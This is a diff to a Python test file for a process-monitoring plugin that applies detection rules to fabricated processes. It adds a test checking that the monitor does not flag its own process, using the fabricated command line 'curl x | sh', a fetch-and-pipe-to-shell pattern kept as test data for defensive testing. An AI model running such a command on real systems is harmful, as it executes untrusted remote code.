@@ -1,6 +1,7 @@
 """Each of the ten rules on fabricated processes, through the plugin's own answer."""
 
 import json
+import os
 import time
 from typing import Any
 
@@ -111,6 +112,10 @@ def test_a_rule_fires_alone(rule: str, severity: str, details: dict[str, Any]) -
 )
 def test_no_rule_fires(details: dict[str, Any]) -> None:
     assert alerts(process(**details)) == []
+
+
+def test_the_monitor_does_not_suspect_itself() -> None:
+    assert alerts(process(pid=os.getpid(), cmd="xtop call processes.search curl x | sh")) == []
 
 
 BROWSER = process(pid=10, name="Google Chrome", exe="/opt/google chrome/chrome")
